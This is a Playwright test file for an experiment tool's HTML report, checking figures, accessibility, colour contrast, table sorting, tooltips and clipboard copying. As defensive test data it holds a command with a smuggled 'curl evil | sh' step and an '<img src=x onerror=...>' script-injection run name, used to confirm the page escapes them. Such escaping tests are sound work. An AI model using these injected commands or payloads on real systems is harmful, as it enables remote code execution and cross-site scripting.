"""The page of a report in Chromium: what it shows, and what happens when a reader clicks."""

import json
import re
from collections.abc import Callable, Iterator, Sequence
from itertools import combinations, pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from conftest import e2e_then_slow
from pages import leave_out_pictures, needs_chromium, violations
from sweeps import write_run, write_sweep

from gptexp.reporting.charts import vega_lite
from gptexp.reporting.page.report import build_report
from gptexp.reporting.page.write import write_report
from gptexp.storage import run_dir

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = needs_chromium
COMMAND = "gptexp train -m model=nano 'optim.lr=0.005,0.01; curl evil | sh'"  # quoted: a shell starts gptexp only
Open = Callable[..., "Page"]


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a sweep at a constant learning rate, which has every kind of figure. Two cells have not started."""
    root = write_sweep(
        tmp_path_factory.mktemp("page") / "sweep", batches=(2048, 4096, 8192, 16384), schedule="constant"
    )
    names = [*(path.name for path in root.glob("lr=*")), "lr=0.32", "<b>lr=0.64"]
    values = {"optim.lr": "0.32", "train.seed": "1337"}
    cells = {name: {"values": values, "total_batch_size": 2048, "tokens": 2**18} for name in names}
    command = ["train", "-m", "model=nano", "optim.lr=0.005,0.01; curl evil | sh"]  # a stranger may have written it
    run_dir.write_json(
        root / run_dir.SWEEP, {"name": "sweep", "overrides": ["model=nano"], "cells": cells, "commands": [command]}
    )
    with pytest.MonkeyPatch.context() as patch:
        leave_out_pictures(patch)
        write_report(root)
    return root / "report.html"


@pytest.fixture
def opened(browser: "Browser") -> Iterator[Open]:
    """Open a page, in a window of its own, and wait until its figures are drawn."""
    contexts = []

    def open_page(path: Path, width: int = 1280, scheme: str = "light") -> "Page":
        context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)  # type: ignore[arg-type]
        contexts.append(context)
        page = context.new_page()
        page.goto(path.as_uri())
        page.evaluate("drawn.then(() => null)")
        return page

    yield open_page
    for context in contexts:
        context.close()


@pytest.mark.parametrize(
    ("width", "scheme"),
    [
        (1280, "light"),
        pytest.param(390, "dark", marks=pytest.mark.e2e),
        pytest.param(390, "light", marks=pytest.mark.e2e),
        pytest.param(1280, "dark", marks=pytest.mark.e2e),
    ],
)
def test_every_figure_is_drawn_and_readable(browser: "Browser", report: Path, width: int, scheme: str) -> None:
    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)  # type: ignore[arg-type]
    page = context.new_page()
    errors, requests = [], []
    page.on("console", lambda message: errors.append(message.text))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: requests.append(request.url))
    page.goto(report.as_uri())
    page.locator("#diagnostics > summary").click()
    page.wait_for_function("views.size === PAGE.figures.length")
    assert page.evaluate("redraw().then(drawn => drawn.length)") == 9
    assert errors == []
    assert requests == [report.as_uri()]
    figures = page.evaluate("""[...document.querySelectorAll(".plot")].map(plot => ({
        marks: plot.querySelectorAll(".mark-symbol path, .mark-rect path, .mark-line path, .mark-text text").length,
        box: plot.querySelector("svg.marks").getBoundingClientRect().toJSON(),
        menu: plot.querySelector("summary").getBoundingClientRect().bottom,
        sizes: [...plot.querySelectorAll("text")].map(text => parseFloat(getComputedStyle(text).fontSize)),
        right: Math.max(...[...plot.querySelectorAll("text")].map(text => text.getBoundingClientRect().right)),
        ink: getComputedStyle(plot.querySelector(".role-axis-title text")).fill,
    }))""")
    for figure in figures:
        assert figure["marks"] > 3, figure
        assert figure["right"] <= width, figure
        assert figure["menu"] <= figure["box"]["top"]
        assert 0.7 * min(width, 600) < figure["box"]["width"] <= width
        assert figure["box"]["height"] > 200
        assert min(figure["sizes"]) >= 12
        assert figure["ink"] == ("rgb(31, 35, 40)" if scheme == "light" else "rgb(230, 232, 235)")
    assert page.evaluate("document.documentElement.scrollWidth") <= width  # no sideways scrolling
    texts = page.evaluate("""[...document.querySelectorAll("#plot-heatmap .mark-text text")].map(text => {
        const {left, right, top, bottom} = text.getBoundingClientRect();
        return [left, right, top, bottom];
    })""")
    assert len(texts) == 24 + 10 + 2  # of the cells, and labels and titles of the axes
    for (left, right, top, bottom), other in combinations(texts, 2):  # no two texts touch
        assert right < other[0] or other[1] < left or bottom <= other[2] or other[3] <= top
    context.close()


def test_the_points_of_a_figure_reach_the_browser_with_seven_digits(opened: Open, report: Path) -> None:
    """The page holds them as columns."""

    def rounded(part: Any, of_point: bool = False) -> Any:
        if isinstance(part, dict):  # a value that a point lacks is the same as null
            inner = {key: rounded(value, of_point or key == "values") for key, value in part.items()}
            return {key: value for key, value in inner.items() if not of_point or value is not None}
        if isinstance(part, list):
            return [rounded(item, of_point) for item in part]
        return float(f"{part:.7g}") if type(part) is float else part

    expected = [figure.spec for figure in build_report(report.parent).figures]
    drawn = opened(report).evaluate("PAGE.figures.map(figure => unpacked(figure.spec))")
    assert rounded(drawn) == rounded(json.loads(json.dumps(run_dir.finite(expected))))


@pytest.mark.usefixtures("without_pictures")
@pytest.mark.parametrize(("width", "scheme"), e2e_then_slow([(390, "dark"), (390, "light"), (1280, "dark")], 2))
def test_the_page_has_no_accessibility_violation(opened: Open, tmp_path: Path, width: int, scheme: str) -> None:
    """Of a small sweep: the check takes long for each element."""
    write_report(write_sweep(tmp_path / "sweep", batches=(4096, 8192), seeds=1))
    page = opened(tmp_path / "sweep/report.html", width, scheme)
    page.locator("#diagnostics > summary").click()
    page.locator(".opens").first.click()
    page.evaluate("redraw().then(() => null)")
    assert violations(page) == []


def test_the_accessibility_check_finds_a_violation(browser: "Browser") -> None:
    page = browser.new_page()
    page.set_content("<html><body><img src='data:,'></body></html>")
    assert any(line.startswith("image-alt") for line in violations(page))
    page.close()


@pytest.mark.e2e
def test_the_head_says_what_was_run_and_how_far_it_is(opened: Open, report: Path) -> None:
    page = opened(report)
    assert page.inner_text("h1") == "sweep: learning rate × batch size × seed"
    assert page.title() == "91% sweep: learning rate × batch size × seed · gptexp"
    assert page.inner_text("header .command pre") == COMMAND
    tiles = [text.split("\n")[:2] for text in page.locator(".tiles li").all_inner_texts()]
    [arm] = json.loads(report.with_name("report.json").read_text())["arms"]
    lowest, following = sorted(cell["mean"] for curve in arm["curves"] for cell in curve["tested"])[:2]
    assert tiles == [
        ["Best tested cell", "lr 0.01"],
        ["Gap to the next cell", f"{following - lowest:.4f} nats"],
        ["Runs done", "44 of 46"],
        ["Time left", "1 min 6 s"],
    ]
    answer = page.locator("table.answers tbody tr").first
    assert answer.locator(".badge").all_inner_texts() == ["bracketed", "so far"]  # other cells still run or wait
    [row, *_] = json.loads(report.with_name("report.json").read_text())["answers"]
    assert answer.locator("td").nth(1).inner_text() == f"{row['lr']:.3g}"
    why = page.locator("#answers-why")
    assert not why.locator("li").first.is_visible()
    why.locator("summary").click()
    assert "inside the grid with a probability of" in why.locator("li").first.inner_text()


@pytest.mark.e2e
def test_the_switches_of_a_chart_change_its_axes(opened: Open, report: Path) -> None:
    page = opened(report)
    warnings: list[str] = []
    page.on("console", lambda message: warnings.append(message.text))
    chart = page.locator("[data-key=loss]")

    def axis(kind: str) -> str:
        return chart.locator(f".role-axis-title text:has-text('{kind}')").first.text_content() or ""

    def ticks() -> list[str]:
        return chart.locator(".mark-text.role-axis-label").first.locator("text").all_text_contents()

    assert axis("tokens") == "training tokens"
    assert ticks() == ["0", "50k", "100k", "150k", "200k", "250k"]
    before = chart.locator(".mark-line path").first.get_attribute("d")
    chart.get_by_role("radio", name="steps", exact=True).check()
    page.wait_for_selector("[data-key=loss] .role-axis-title text:has-text('steps')")
    assert chart.locator(".mark-line path").first.get_attribute("d") != before
    chart.get_by_role("radio", name="log", exact=True).check()
    page.evaluate("drawn.then(() => null)")
    scale = page.evaluate("views.get('plot-loss').view.scale('y').type")
    assert scale == "log"
    assert axis("steps") == "steps"  # the other choice stands

    page.evaluate("window.range = () => views.get('plot-curves').view.scale('y').domain()")
    (low, high), chart = page.evaluate("range()"), page.locator("[data-key=curves]")
    chart.get_by_role("radio", name="near the lowest", exact=True).check()
    page.evaluate("drawn.then(() => null)")
    near_low, near_high = page.evaluate("range()")
    assert low <= near_low < near_high < high
    chart.get_by_role("radio", name="all", exact=True).check()
    page.evaluate("drawn.then(() => null)")
    assert page.evaluate("range()") == [low, high]
    assert warnings == []


@pytest.mark.e2e
@pytest.mark.usefixtures("without_pictures")
def test_the_training_loss_is_shown_smoothed_or_as_logged(opened: Open, tmp_path: Path) -> None:
    write_run(tmp_path / "run", 4096, 0.02, 1, 4.0)
    write_report(tmp_path / "run")
    page = opened(tmp_path / "run/report.html")
    paths = "new Set([...document.querySelectorAll('#plot-loss .mark-line path')].map(p => p.getAttribute('d'))).size"
    assert page.evaluate(paths) == 3  # validation, training, and faintly training as logged
    page.get_by_role("radio", name="as logged", exact=True).check()
    page.evaluate("drawn.then(() => null)")
    assert page.evaluate(paths) == 2
    page.get_by_role("radio", name="smoothed", exact=True).check()
    page.evaluate("drawn.then(() => null)")
    assert page.evaluate(paths) == 3
    assert page.locator("#plot-loss .role-legend").count() == 0
    page.set_viewport_size({"width": 390, "height": 844})  # no room for labels at the ends
    page.wait_for_selector("#plot-loss .role-legend-label")
    assert page.locator("#plot-loss .role-legend-label text").all_text_contents() == ["validation", "training"]


@pytest.mark.e2e
def test_a_link_to_a_run_opens_it(opened: Open, report: Path) -> None:
    page = opened(report)
    page.goto("about:blank")
    page.goto(f"{report.as_uri()}#run-lr=0.32")
    page.wait_for_selector(".more:not([hidden])")
    assert page.locator(".more:not([hidden]) .name").inner_text() == "lr=0.32"


def luminance(channels: Sequence[float]) -> float:
    """Of a colour in sRGB, as WCAG 2.2 has it."""
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return sum(weight * c for weight, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


def rgb(colour: str) -> list[float]:
    return [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]


@pytest.mark.parametrize("brightness", ["light", "dark"])
@pytest.mark.parametrize("sequence", ["batch", "rate"])
def test_few_ordered_colours_differ_in_lightness(sequence: str, brightness: str) -> None:
    """By CIE L*, from 0 to 100, between any two; most if there are only two."""
    for count, least in ((2, 28), (3, 14), (4, 9)):
        name = vega_lite.coloured("field", "title", ["value"] * count, sequence)["scale"]["range"]
        colours = vega_lite.theme(brightness)["range"][name]
        assert len(set(colours)) == count
        lightness = sorted(116 * luminance(rgb(colour)) ** (1 / 3) - 16 for colour in colours)
        assert min(b - a for a, b in pairwise(lightness)) >= least, (name, colours)


def test_colours_can_be_read_on_their_background() -> None:
    """Contrast by WCAG 2.2, of the colours between the given ones too, on the page's two backgrounds."""
    for brightness, background in (("light", "#ffffff"), ("dark", "#14171b")):
        for colours in (vega_lite.BATCH_COLOURS[brightness], vega_lite.RATE_COLOURS[brightness]):
            for one, other in pairwise(colours):
                for share in (0, 0.25, 0.5, 0.75, 1):
                    mixed = [a + share * (b - a) for a, b in zip(rgb(one), rgb(other), strict=True)]
                    low, high = sorted((luminance(mixed), luminance(rgb(background))))
                    assert (high + 0.05) / (low + 0.05) >= 4.5, (one, other)


@pytest.mark.e2e
def test_a_click_on_the_legend_isolates_its_lines(opened: Open, report: Path) -> None:
    page = opened(report)
    faint = "[...document.querySelectorAll('#plot-curves .mark-line path')].map(p => +(p.getAttribute('opacity') ?? 1))"
    assert set(page.evaluate(faint)) == {1}
    page.locator("#plot-curves .role-legend-symbol path").first.click(force=True)
    page.wait_for_function(f"{faint}.some(opacity => opacity < 0.5)")
    assert set(page.evaluate(faint)) == {1, 0.1}
    colours = page.evaluate("views.get('plot-curves').view.scale('color').range()")
    assert colours == vega_lite.BATCH_COLOURS["light"]


@pytest.mark.e2e
def test_a_click_on_a_learning_rate_or_a_batch_size_isolates_the_lines_of_its_runs(opened: Open, report: Path) -> None:
    page = opened(report)
    entries = page.locator("#plot-loss .role-legend-label text")
    shown = """[...document.querySelectorAll('#plot-loss .mark-line path')]
        .filter(path => +(path.getAttribute('opacity') ?? 1) > 0.5).length"""
    everything = page.evaluate(shown)
    counts = {}
    for number, entry in enumerate(entries.all_text_contents()):
        entries.nth(number).click()
        page.wait_for_function(f"{shown} < {everything}")
        counts[entry] = page.evaluate(shown)
        page.locator("#plot-loss svg.marks").dblclick(position={"x": 300, "y": 40})  # nothing is chosen any more
        page.wait_for_function(f"{shown} === {everything}")
    rates = {"0.005": 8, "0.01": 8, "0.02": 8, "0.04": 8, "0.08": 8, "0.16": 4}
    assert counts == {**rates, "2,048": 11, "4,096": 11, "8,192": 11, "16,384": 11}


@pytest.mark.e2e
@pytest.mark.usefixtures("without_pictures")
def test_a_label_stands_at_the_end_of_its_line_and_goes_with_it(opened: Open, tmp_path: Path) -> None:
    write_run(tmp_path / "sweep/whole", 4096, 0.02, 1, 4.0)
    write_run(tmp_path / "sweep/half", 4096, 0.04, 1, 4.0)
    lines = (tmp_path / "sweep/half/metrics.jsonl").read_text().splitlines(keepends=True)
    (tmp_path / "sweep/half/metrics.jsonl").write_text("".join(lines[: len(lines) // 2]))
    write_report(tmp_path / "sweep")
    page = opened(tmp_path / "sweep/report.html")
    for over in ("tokens", "steps", "time"):
        page.locator("[data-key=loss]").get_by_role("radio", name=over, exact=True).check()
        page.evaluate("drawn.then(() => null)")
        labels = page.evaluate("""() => Object.fromEntries([...document.querySelectorAll("#plot-loss .ends_marks text")]
            .map(text => [text.textContent, text.getBoundingClientRect().left]))""")
        ends = page.evaluate("""() => [...document.querySelectorAll("#plot-loss .mark-line path")]
            .map(path => path.getBoundingClientRect().right)""")
        assert labels.keys() == {"0.02", "0.04"}
        assert min(ends) < labels["0.04"] < min(ends) + 15 < max(ends) < labels["0.02"] < max(ends) + 15
    page.locator("#plot-loss svg.marks").hover()
    page.keyboard.down("Shift")
    page.mouse.wheel(0, -2000)  # so far that no line ends in the view
    page.keyboard.up("Shift")
    page.wait_for_function("""() => [...document.querySelectorAll("#plot-loss .ends_marks text")]
        .every(text => text.textContent === "")""")


@pytest.mark.e2e
def test_the_table_is_sorted_by_a_click_and_its_rows_open(opened: Open, report: Path) -> None:
    page = opened(report)

    def column(number: int) -> list[str]:
        return page.locator(f"table.sortable tbody > tr:first-child > td:nth-child({number})").all_inner_texts()

    heads = page.locator("table.sortable thead th").all_inner_texts()
    assert heads == ["learning rate", "tokens a step", "seed", "val loss", "status", "above lowest", "tokens/s", "time"]
    assert column(2)[0] == "2,048"
    loss = page.get_by_role("button", name="val loss")
    loss.click()
    losses = [float(text.split()[0]) for text in column(4) if text]
    assert losses == sorted(losses)
    assert column(4)[-6:] == [""] * 6  # diverged and not started: last in both orders
    assert page.locator("th[aria-sort=ascending]").inner_text().startswith("val loss")
    loss.click()
    assert [float(text.split()[0]) for text in column(4) if text] == losses[::-1]
    assert column(4)[-6:] == [""] * 6
    best = page.locator("tbody.best")
    assert best.count() == 2
    assert "best" in best.first.inner_text()
    assert "not started" in page.locator("tbody[id='run-<b>lr=0.64']").inner_text()
    row = best.first
    assert not row.locator(".more").is_visible()
    row.locator("td").nth(4).click()
    assert "gptexp sample /" in row.locator(".more").inner_text()  # an absolute path: the page may be anywhere
    row.locator(".opens").click()
    assert not row.locator(".more").is_visible()


@pytest.mark.e2e
def test_a_click_on_a_point_opens_its_run_each_time(opened: Open, report: Path) -> None:
    page = opened(report)
    for _ in range(2):
        page.locator("#plot-curves .mark-symbol path").first.click(force=True)
        page.wait_for_selector(".more:not([hidden])")
        assert page.locator(".more:not([hidden]) .name").inner_text().startswith("lr=0.005,")
        page.locator(".opens[aria-expanded=true]").press("Enter")
        assert page.locator(".more:not([hidden])").count() == 0


@pytest.mark.e2e
def test_a_command_is_copied(opened: Open, report: Path) -> None:
    page = opened(report)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator("header .copy").click()
    page.wait_for_selector("header .copy:has-text('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == COMMAND


@pytest.mark.e2e
def test_paper_shows_no_buttons_and_the_colours_of_a_light_page(opened: Open, report: Path) -> None:
    """Whatever the system's choice."""
    colours = """() => [...document.querySelectorAll("body, .tiles li, .badge, .status, .best, a, .plot svg *")].map(
        element => [getComputedStyle(element).backgroundColor, getComputedStyle(element).fill,
                    getComputedStyle(element).stroke])"""
    colours = f"JSON.stringify(({colours})())"
    paper, page = opened(report), opened(report, scheme="dark")
    assert page.evaluate(colours) != paper.evaluate(colours)
    paper.emulate_media(media="print", color_scheme="light")
    page.emulate_media(media="print", color_scheme="dark")
    page.wait_for_function(f"light => {colours} === light", arg=paper.evaluate(colours))
    inks = {"rgb(0, 0, 0)", "rgb(255, 255, 255)"}
    losses = (
        "[...document.querySelectorAll('#plot-heatmap .losses_marks text')].map(text => getComputedStyle(text).fill)"
    )
    assert set(page.evaluate(losses)) == inks
    assert not page.locator("header .copy").is_visible()
    assert not page.locator("fieldset").first.is_visible()
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"
    assert not page.locator(".plot summary").first.is_visible()


@pytest.mark.e2e
def test_the_page_follows_the_color_scheme_of_the_system(opened: Open, report: Path) -> None:
    page = opened(report)
    page.emulate_media(color_scheme="dark")
    page.wait_for_function("""() => {
        const title = document.querySelector("#plot-loss .role-axis-title text");
        return title && getComputedStyle(title).fill === "rgb(230, 232, 235)";
    }""")


@pytest.mark.e2e
@pytest.mark.usefixtures("without_pictures")
def test_a_single_point_is_drawn(opened: Open, tmp_path: Path) -> None:
    """A run with one step and one evaluation, as right after its start."""
    write_run(tmp_path / "run", 2**18, 0.02, 1, 4.0)
    write_report(tmp_path / "run")
    page = opened(tmp_path / "run/report.html")
    assert page.inner_text("h1") == "run, learning rate 0.02"
    assert page.locator("#plot-loss .mark-symbol path").count() >= 1
    assert "validation 4.000" in page.locator("#plot-loss").text_content()
    page.locator("#diagnostics > summary").click()
    page.wait_for_selector("#plot-speed svg.marks")
    assert page.locator("#plot-speed .mark-symbol path").count() == 1


@pytest.mark.e2e
def test_a_point_has_a_tooltip(opened: Open, report: Path) -> None:
    page = opened(report)
    page.locator("#plot-curves .mark-symbol path").first.hover(force=True)  # another seed may lie above it
    page.wait_for_selector("#vg-tooltip-element.visible")
    entries = page.locator("#vg-tooltip-element tr").all_inner_texts()
    names, values = zip(*(entry.split("\t", 1) for entry in entries), strict=True)
    assert [name.strip() for name in names] == ["run", "learning rate", "tokens a step", "seed", "loss"]
    assert values[1].strip() == "0.005"
    assert re.fullmatch(r"4\.\d{4}", values[-1].strip())


@pytest.mark.e2e
@pytest.mark.usefixtures("without_pictures")
def test_a_run_name_is_not_executed_as_html(opened: Open, tmp_path: Path) -> None:
    """Neither in the page nor in a tooltip, which Vega writes as HTML."""
    root = write_sweep(tmp_path / "<img src=x onerror=window.owned=1>")
    for path in root.glob("lr=0.02*"):
        path.rename(root / f"<img src=x onerror=window.owned=1>{path.name}")
    write_report(root)
    page = opened(root / "report.html")
    for number in range(page.locator("#plot-curves .mark-symbol path").count()):
        page.locator("#plot-curves .mark-symbol path").nth(number).hover(force=True)
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned === undefined")
    assert page.locator("img").count() == 0
